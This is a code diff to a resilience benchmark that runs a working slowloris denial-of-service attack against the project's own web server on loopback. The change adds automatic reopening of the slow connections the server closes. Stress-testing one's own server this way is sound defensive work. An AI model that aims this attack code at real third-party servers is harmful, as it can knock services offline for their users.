@@ -10,6 +10,8 @@ let the slow connections live.
     .venv/bin/python bench/attack_slowloris.py --sockets 300 --seconds 60 --interval 5
     .venv/bin/python bench/attack_slowloris.py --sockets 105 --seconds 30 --interval 5 --plain
 
+Closed slow connections are reopened at once (``--once``: not), as an attacker would.
+
 Traffic stays on the loopback interface; every loop ends after ``--seconds``.
 """
 
@@ -35,8 +37,11 @@ PROBE_PATH = "/api/search?q=%D8%A7%D9%84%D8%AF%D9%81%D8%A7%D8%B9"  # الدفا�
 
 
 def slowloris(port: int, sockets: int = 120, seconds: float = 10, interval: float = 1,
-              probe_every: float = 0.25, probe_timeout: float = 5, host: str = "127.0.0.1") -> dict:
-    """Run the attack against ``host:port`` for ``seconds``; return what happened."""
+              probe_every: float = 0.25, probe_timeout: float = 5, host: str = "127.0.0.1",
+              reconnect: bool = False) -> dict:
+    """Run the attack against ``host:port`` for ``seconds``; return what happened.
+    ``reconnect``: replace each slow connection the server closes by a new one (else the
+    attack ends early once the server has closed them all)."""
     probes: list[float] = []
     failures: list[str] = []
     stop = threading.Event()
@@ -62,16 +67,23 @@ def slowloris(port: int, sockets: int = 120, seconds: float = 10, interval: floa
     opened: dict[socket.socket, float] = {}
     lifetimes: list[float] = []
     refused = 0
-    for _ in range(sockets):
+    started_sockets = 0
+
+    def open_one() -> None:
+        nonlocal refused, started_sockets
         try:
             slow = socket.create_connection((host, port), timeout=2)
             slow.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
             slow.setblocking(False)
         except OSError:
             refused += 1
-            continue
+            return
+        started_sockets += 1
         opened[slow] = time.monotonic()
         selector.register(slow, selectors.EVENT_READ)
+
+    for _ in range(sockets):
+        open_one()
     prober = threading.Thread(target=probe, daemon=True)
     prober.start()
     deadline = time.monotonic() + seconds
@@ -81,6 +93,8 @@ def slowloris(port: int, sockets: int = 120, seconds: float = 10, interval: floa
         lifetimes.append(time.monotonic() - opened.pop(slow))
         selector.unregister(slow)
         slow.close()
+        if reconnect and time.monotonic() < deadline:
+            open_one()
 
     try:
         while time.monotonic() < deadline and opened:
@@ -112,7 +126,7 @@ def slowloris(port: int, sockets: int = 120, seconds: float = 10, interval: floa
         selector.close()
     probes.sort()
     return {
-        "slow_sockets": sockets - refused, "refused": refused,
+        "slow_sockets": sockets - refused, "slow_connections_opened": started_sockets, "refused": refused,
         "closed_by_server": len(lifetimes), "still_open_at_end": still_open,
         "max_slow_lifetime_s": round(max(lifetimes), 1) if lifetimes else None,
         "probe_requests": len(probes) + len(failures), "probe_failures": len(failures),
@@ -128,6 +142,7 @@ def main(argv=None) -> int:
     parser.add_argument("--seconds", type=float, default=60)
     parser.add_argument("--interval", type=float, default=5)
     parser.add_argument("--plain", action="store_true", help="waitress with its default settings")
+    parser.add_argument("--once", action="store_true", help="do not reopen the connections the server closes")
     args = parser.parse_args(argv)
     from search import Index
     from web import create_app
@@ -145,7 +160,8 @@ def main(argv=None) -> int:
         serving = threading.Thread(target=server.run, daemon=True)
         serving.start()
         try:
-            outcome = slowloris(int(server.effective_port), args.sockets, args.seconds, args.interval)
+            outcome = slowloris(int(server.effective_port), args.sockets, args.seconds, args.interval,
+                                reconnect=not args.once)
         finally:
             server.close()
             serving.join(10)
